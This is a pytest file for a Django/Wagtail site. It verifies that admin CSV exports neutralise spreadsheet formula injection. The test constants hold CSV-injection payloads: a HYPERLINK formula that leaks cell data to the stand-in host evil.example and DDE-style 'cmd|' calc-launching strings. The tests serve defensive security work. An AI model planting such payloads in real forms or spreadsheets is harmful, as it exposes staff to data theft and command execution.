"""Finding 4: Wagtail's `?export=csv` of every staff listing neutralises spreadsheet formulas.

Hostile text typed into the public forms (`=HYPERLINK(...)`, `+cmd|...`, `@SUM`, `-2+3`) must reach a
staff member's spreadsheet as text, never as a formula that runs.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from catalog.models import QuoteRequest
from catalog.tests.factories import OrganisationFactory
from cms import services
from config.core.exports import FORMULA_PREFIXES, FormulaSafeExportMixin
from events import services as fair_services
from events.models import Fair, StandType
from events.tests.conftest import application_data

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITHMETIC = "-2+3"


def exported_rows(client, url: str) -> list[list[str]]:
    response = client.get(url + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def assert_no_formula(rows: list[list[str]], hostile: str) -> None:
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + hostile in cells, cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


def test_signatures_export_is_formula_safe(admin_client, letter_page, free_nip):
    services.sign_letter_of_intent(
        letter_page, services.SignatureInput(HYPERLINK, free_nip, CMD, SUM, "jan@example.pl")
    )
    rows = exported_rows(admin_client, "/admin/cms/letter-of-intent/")
    assert_no_formula(rows, HYPERLINK)


def test_quote_requests_export_is_formula_safe(admin_client):
    QuoteRequest.objects.create(
        buyer_type="company",
        buyer_name=SUM,
        buyer_organisation=HYPERLINK,
        buyer_email="jan@example.pl",
        description="x",
        quantity=ARITHMETIC,
        deadline=timezone.localdate() + timedelta(days=5),
        place=CMD,
        consent_given_at=timezone.now(),
        ip_hash="x",
    )
    rows = exported_rows(admin_client, "/admin/katalog/zapytania/")
    for hostile in (SUM, HYPERLINK, ARITHMETIC, CMD):
        assert_no_formula(rows, hostile)


def test_organisations_export_is_formula_safe(admin_client):
    OrganisationFactory(name=ARITHMETIC, city=HYPERLINK)
    rows = exported_rows(admin_client, "/admin/katalog/organizacje/")
    assert_no_formula(rows, ARITHMETIC)
    assert_no_formula(rows, HYPERLINK)


def test_fair_applications_export_is_formula_safe(admin_client):
    now = timezone.now()
    fair = Fair.objects.create(
        slug="targi-csv",
        name="Targi",
        starts_at=now + timedelta(days=30),
        ends_at=now + timedelta(days=30, hours=6),
        venue_name="Hala",
        venue_address="Gdańsk",
    )
    stand = StandType.objects.create(fair=fair, name="Stoisko", capacity=5, price_net=20000)
    fair_services.apply_for_stand(
        fair=fair, stand_type=stand, addons=[], data=application_data(organisation_name=CMD, exhibits=SUM)
    )
    rows = exported_rows(admin_client, "/admin/fair/applications/")
    assert_no_formula(rows, CMD)


def test_every_project_listing_uses_the_formula_safe_export_base():
    from django.urls import get_resolver
    from wagtail.admin.viewsets import viewsets

    _ = get_resolver().url_patterns  # viewsets register when the admin URLs load
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if type(viewset).__module__.split(".")[0] in {"catalog", "events", "cms", "search", "config"}
        and hasattr(viewset, "model")  # every listing has Wagtail's export, list_export set or not
    ]
    assert len(exporting) >= 10
    unsafe = [
        type(v).__name__ for v in exporting if not issubclass(v.index_view_class, FormulaSafeExportMixin)
    ]
    assert unsafe == []
